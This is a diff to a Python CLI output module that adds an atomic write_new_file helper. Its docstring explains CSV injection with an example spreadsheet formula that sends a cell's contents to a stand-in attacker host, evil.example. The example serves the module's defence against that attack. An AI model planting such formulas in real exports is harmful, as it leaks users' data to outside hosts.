@@ -1,5 +1,6 @@
-"""Plain, scriptable output for every CLI command that lists or shows things, and the one rule every
-CSV writer of Recoup applies to its cells (`safe_cell`, `csv_writer`).
+"""Plain, scriptable output for every CLI command that lists or shows things, files written whole or not at
+all (`write_new_file`), and the one rule every CSV writer of Recoup applies to its cells (`safe_cell`,
+`csv_writer`).
 
 A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a
 formula (CSV injection: `=HYPERLINK("http://evil.example/?"&A1,"click")` in an order number sends the
@@ -12,10 +13,12 @@ from __future__ import annotations
 
 import csv
 import json
+import os
 import re
 import sys
 from collections.abc import Iterable, Sequence
 from enum import StrEnum
+from pathlib import Path
 from typing import Any, TextIO
 
 from rich.console import Console
@@ -90,3 +93,16 @@ def emit_one(obj: dict[str, object], fmt: Format) -> None:
     else:
         emit([obj], fmt) if fmt is Format.csv else sys.stdout.write(
             json.dumps(obj, ensure_ascii=False, indent=1, default=str) + "\n")
+
+
+def write_new_file(out: Path, parts: Iterable[bytes]) -> None:
+    """Write `parts` to `out`, which must not exist yet: into a hidden partial file, linked in at the end, so
+    nobody sees half a file and a file made meanwhile is never replaced (the link fails instead)."""
+    partial = out.with_name(f".{out.name}.part")
+    try:
+        with partial.open("xb") as target:
+            for part in parts:
+                target.write(part)
+        os.link(partial, out)
+    finally:
+        partial.unlink(missing_ok=True)
